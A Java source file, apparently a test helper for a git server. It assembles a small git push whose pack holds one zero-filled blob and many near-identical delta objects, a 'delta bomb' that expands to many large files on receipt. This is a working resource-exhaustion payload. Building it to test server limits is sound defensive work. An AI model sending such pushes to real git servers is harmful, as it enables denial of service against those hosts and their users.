package dev.kaname.code;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.Locale;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/// A push of some kilobytes: one file of zeros, and many that are that file but for eight bytes.
final class DeltaBomb {
    private static final int COMMIT = 1;
    private static final int TREE = 2;
    private static final int BLOB = 3;
    private static final int DELTA = 7;
    private static final int LONGEST_COPY = 0xffffff;

    private final ByteArrayOutputStream pack = new ByteArrayOutputStream();
    private final int size;

    private DeltaBomb(int size) {
        this.size = size;
    }

    /// What a client sends to create a branch with it.
    ///
    /// @param size of each file, in bytes
    static byte[] push(String ref, int size, int files) throws IOException {
        return new DeltaBomb(size).body(ref, files);
    }

    private byte[] body(String ref, int files) throws IOException {
        byte[] base = new byte[size];
        byte[] blob = name("blob", base);
        byte[] tree = join("100644 a\0".getBytes(StandardCharsets.US_ASCII), blob);
        byte[] commit =
                ("tree "
                                + HexFormat.of().formatHex(name("tree", tree))
                                + "\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\nx\n")
                        .getBytes(StandardCharsets.US_ASCII);
        pack.writeBytes("PACK\0\0\0\2".getBytes(StandardCharsets.US_ASCII));
        pack.writeBytes(number(files + 3, 4));
        object(BLOB, new byte[0], base);
        for (int file = 0; file < files; file++) {
            object(DELTA, blob, delta(file + 1));
        }
        object(TREE, new byte[0], tree);
        object(COMMIT, new byte[0], commit);
        pack.writeBytes(sha1(pack.toByteArray()));
        String command =
                "0".repeat(40)
                        + " "
                        + HexFormat.of().formatHex(name("commit", commit))
                        + " "
                        + ref
                        + "\0 report-status";
        String line = String.format(Locale.ROOT, "%04x%s0000", command.length() + 4, command);
        return join(line.getBytes(StandardCharsets.US_ASCII), pack.toByteArray());
    }

    private byte[] delta(int number) {
        ByteArrayOutputStream delta = new ByteArrayOutputStream();
        delta.writeBytes(length(size));
        delta.writeBytes(length(size));
        delta.write(8);
        delta.writeBytes(number(number, 8));
        for (int left = size - 8; left > 0; left -= LONGEST_COPY) {
            int copied = Math.min(left, LONGEST_COPY);
            delta.write(0xf0);
            delta.write(copied);
            delta.write(copied >> 8);
            delta.write(copied >> 16);
        }
        return delta.toByteArray();
    }

    private void object(int type, byte[] base, byte[] bytes) throws IOException {
        int rest = bytes.length >> 4;
        pack.write(type << 4 | bytes.length & 15 | (rest > 0 ? 0x80 : 0));
        if (rest > 0) {
            pack.writeBytes(length(rest));
        }
        pack.writeBytes(base);
        try (Deflater best = new Deflater(Deflater.BEST_COMPRESSION)) {
            DeflaterOutputStream out = new DeflaterOutputStream(pack, best);
            out.write(bytes);
            out.finish();
        }
    }

    /// The lowest bits first, with a mark on all bytes but the last.
    private static byte[] length(int value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int left = value;
        while (left >> 7 > 0) {
            out.write(left & 0x7f | 0x80);
            left >>= 7;
        }
        out.write(left);
        return out.toByteArray();
    }

    private static byte[] number(int value, int bytes) {
        byte[] out = new byte[bytes];
        for (int at = 0; at < 4; at++) {
            out[bytes - 1 - at] = (byte) (value >> 8 * at);
        }
        return out;
    }

    private static byte[] name(String type, byte[] bytes) {
        return sha1(
                join(
                        (type + " " + bytes.length + "\0").getBytes(StandardCharsets.US_ASCII),
                        bytes));
    }

    private static byte[] join(byte[] first, byte[] second) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(first.length + second.length);
        out.writeBytes(first);
        out.writeBytes(second);
        return out.toByteArray();
    }

    private static byte[] sha1(byte[] bytes) {
        try {
            return MessageDigest.getInstance("SHA-1").digest(bytes); // git's names are made of it
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
